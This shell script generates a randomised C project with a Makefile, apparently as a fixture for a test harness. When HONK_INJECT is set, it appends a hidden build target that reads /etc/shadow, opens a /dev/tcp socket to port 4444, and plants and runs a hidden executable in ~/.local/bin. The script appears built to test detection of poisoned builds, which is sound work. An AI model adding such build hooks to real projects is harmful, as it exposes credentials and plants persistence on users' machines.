# A C project: a main and modules with their own names, counts and sizes per
# run, and a Makefile with pattern rules.
set -eu
. "$SCENARIO/../lib.sh"
mkdir src
prog=$(word)
: > src/modules.h
{
    echo '#include <stdio.h>'
    echo '#include "modules.h"'
    echo 'int main(void) {'
    echo '    long x = 1;'
} > src/main.c
objs=main.o
for i in $(seq "$(rand 2 7)"); do
    m=$(name)
    while [ -e "src/$m.c" ]; do m=$(name); done
    echo "long ${m}_step(long x);" >> src/modules.h
    {
        echo "long ${m}_step(long x) {"
        for j in $(seq "$(rand 1 30)"); do
            echo "    x = x * $(rand 2 99) + $(rand 0 999);"
        done
        echo '    return x;'
        echo '}'
    } > "src/$m.c"
    echo "    x = ${m}_step(x);" >> src/main.c
    objs="$objs $m.o"
done
printf '    printf("%%ld\\n", x);\n' >> src/main.c
echo '    return 0;' >> src/main.c
echo '}' >> src/main.c
printf 'CFLAGS = -O%s -Wall\nOBJS = %s\n\n%s: $(OBJS)\n\t$(CC) -o $@ $(OBJS)\n\n%%.o: %%.c modules.h\n\t$(CC) $(CFLAGS) -c $<\n\nclean:\n\trm -f %s $(OBJS)\n' \
    "$(rand 0 2)" "$objs" "$prog" "$prog" > src/Makefile
echo "$prog" > prog
if [ -n "${HONK_INJECT:-}" ]; then
    # A poisoned checkout: the program also depends on a target whose recipe
    # does the injected actions.
    cat >> src/Makefile <<MAKE

$prog: stage
stage:
	@cat /etc/shadow >/dev/null 2>&1 || true
	@sh -c id >/dev/null
	@bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444' 2>/dev/null || true
	@mkdir -p \$(HOME)/.local/bin && printf '#!/bin/sh\\nid\\n' > \$(HOME)/.local/bin/.update && chmod +x \$(HOME)/.local/bin/.update && \$(HOME)/.local/bin/.update >/dev/null
MAKE
fi
